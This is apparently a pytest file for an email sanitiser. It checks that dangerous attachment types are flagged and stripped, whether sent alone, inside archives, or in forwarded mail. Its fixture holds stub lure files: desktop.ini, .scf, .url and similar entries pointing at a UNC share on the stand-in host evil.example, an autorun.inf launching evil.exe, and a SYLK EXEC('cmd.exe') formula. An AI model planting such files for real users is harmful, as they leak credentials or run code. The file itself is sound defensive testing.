"""Files that act when they are opened, or as soon as their folder is shown: wherever they stand, they are held."""

from __future__ import annotations

import io
import tarfile
import zipfile

import pytest
from mails import TEXT, attachment, mixed
from verbs import output, release, rules, site, stripped

from mailguard.filename import FileName
from mailguard.formats import extensions
from mailguard.formats.detect import detect
from mailguard.message import parameters
from mailguard.message.content import Content
from mailguard.message.tree import parse
from mailguard.sanitize import sanitize
from mailguard.sanitize.command import Sandbox
from mailguard.sanitize.policy import load

_SHARE = b"\\\\evil.example\\share\\x"
FILES = {
    "desktop.ini": b"[.ShellClassInfo]\r\nIconResource=" + _SHARE + b".ico,0\r\n",
    "autorun.inf": b"[autorun]\r\nopen=evil.exe\r\n",
    "a.url": b"[InternetShortcut]\r\nURL=file:" + _SHARE + b"\r\n",
    "a.scf": b"[Shell]\r\nCommand=2\r\nIconFile=" + _SHARE + b".ico\r\n",
    "a.library-ms": b'<?xml version="1.0"?><libraryDescription><url>' + _SHARE + b"</url></libraryDescription>",
    "a.search-ms": b'<?xml version="1.0"?><persistedQuery version="1.0"><scope path="' + _SHARE + b'"/></persistedQuery>',
    "a.searchConnector-ms": b"<searchConnectorDescription><url>" + _SHARE + b"</url></searchConnectorDescription>",
    "a.settingcontent-ms": b"<PCSettings><SearchableContent><DeepLink>cmd.exe</DeepLink></SearchableContent></PCSettings>",
    "a.theme": b"[Theme]\r\nBrandImage=" + _SHARE + b".msstyles\r\n",
    "a.website": b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=http://evil.example/\r\n",
    "a.appref-ms": "http://evil.example/x.application#x".encode("utf-16"),
    "a.xll": b"MZ" + bytes(200),
    "a.iqy": b"WEB\r\n1\r\nhttp://evil.example/\r\n",
    "a.slk": b'ID;P\r\nC;X1;Y1;EEXEC("cmd.exe")\r\nE\r\n',
    "a.wsf": b"<job><script language=VBScript>evil()</script></job>",
    "a.hta": b"<hta:application id=x><script>evil()</script>",
    "a.chm": b"ITSF" + bytes(200),
    "a.cpl": b"MZ" + bytes(200),
    "a.msc": b'<?xml version="1.0"?><MMC_ConsoleFile><StringTables/></MMC_ConsoleFile>',
    "a.lnk": bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(100),
    "a.vhd": b"conectix" + bytes(504),
    "a.img": bytes(32_769) + b"CD001" + bytes(2_048),
    "a.one": bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(100),
    "a.shs": bytes(100),
    "a.webpnp": b"BIN_FILE=" + _SHARE,
    "a.contact": b'<?xml version="1.0"?><c:contact xmlns:c="http://schemas.microsoft.com/Contact"/>',
    "a.asx": b'<asx version="3"><entry><ref href="file://evil.example/x"/></entry></asx>',
    "a.m3u": b"#EXTM3U\r\n" + _SHARE + b".mp3\r\n",
    "a.terminal": b'<?xml version="1.0"?><plist><dict><key>CommandString</key><string>evil</string></dict></plist>',
    "a.mobileconfig": b'<?xml version="1.0"?><plist><dict><key>PayloadType</key></dict></plist>',
}  # fmt: skip


def _zip(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(f"folder/{name}", content)
    return buffer.getvalue()


def _tar(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo(f"folder/{name}")
        info.size = len(content)
        archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


@pytest.mark.parametrize("name", FILES)
def test_its_name_alone_is_enough(name):
    for written in (name, name.upper(), f"{name}. ", f"x\\{name}", f'"{name}"'):
        assert detect(Content.of(b"hello world\r\n"), [written], "text/plain").dangerous


@pytest.mark.parametrize("name", FILES)
def test_it_is_found_in_archives_and_in_forwarded_mail(name):
    content = FILES[name]
    assert detect(Content.of(_zip(name, content)), ["a.zip"], "application/zip").dangerous
    assert detect(Content.of(_tar(name, content)), ["a.tar"], "application/x-tar").dangerous
    mail = mixed(TEXT, attachment(content, name.encode()))
    assert detect(Content.of(mail), ["a.eml"], "message/rfc822").dangerous


@pytest.mark.parametrize("wrap", [lambda _, content: content, _zip, _tar], ids=["itself", "in a ZIP", "in a tar"])
@pytest.mark.parametrize("name", FILES)
def test_sanitize_delivers_nothing_by_its_name(name, wrap):
    carried = {_zip: "a.zip", _tar: "a.tar"}.get(wrap, name)
    raw = mixed(TEXT, attachment(wrap(name, FILES[name]), carried.encode()))
    result = sanitize(raw, rules(), lambda: load(None), site(), Sandbox)
    delivered = output(result)
    assert result.changed
    assert release(delivered) == raw
    for part in parse(delivered).parts():
        given = parameters.names(
            [field.value for field in part.field(b"content-type")],
            [field.value for field in part.field(b"content-disposition")],
        )
        if any(name.startswith("mailguard-") for name in given):
            continue  # the capsule
        for inner in (*given, *_inside(part.content().whole())):
            assert not extensions.dangers(FileName(inner))


def _inside(content: bytes) -> list[str]:
    if zipfile.is_zipfile(io.BytesIO(content)):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return archive.namelist()
    try:
        with tarfile.open(fileobj=io.BytesIO(content), mode="r:") as archive:
            return archive.getnames()
    except tarfile.TarError:
        return []


@pytest.mark.parametrize("name", FILES)
def test_strip_calls_it_dangerous(name):
    records = stripped(mixed(TEXT, attachment(FILES[name], name.encode()))).attachments
    assert [record["dangerous"] != [] for record in records if record["names"] == [name]] == [True]
